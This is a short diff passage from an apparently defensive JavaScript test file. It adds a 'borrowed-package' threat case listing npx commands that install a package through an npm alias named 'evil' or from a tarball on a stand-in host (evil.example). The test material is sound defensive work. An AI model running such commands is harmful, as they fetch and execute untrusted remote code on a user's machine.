@@ -30,6 +30,7 @@ test.each([
   expect(of(line)).toBe(expected);
 });
 
+// threat: borrowed-package
 test.each([
   "npx name@npm:evil",
   "npx name@https://evil.example/x.tgz",
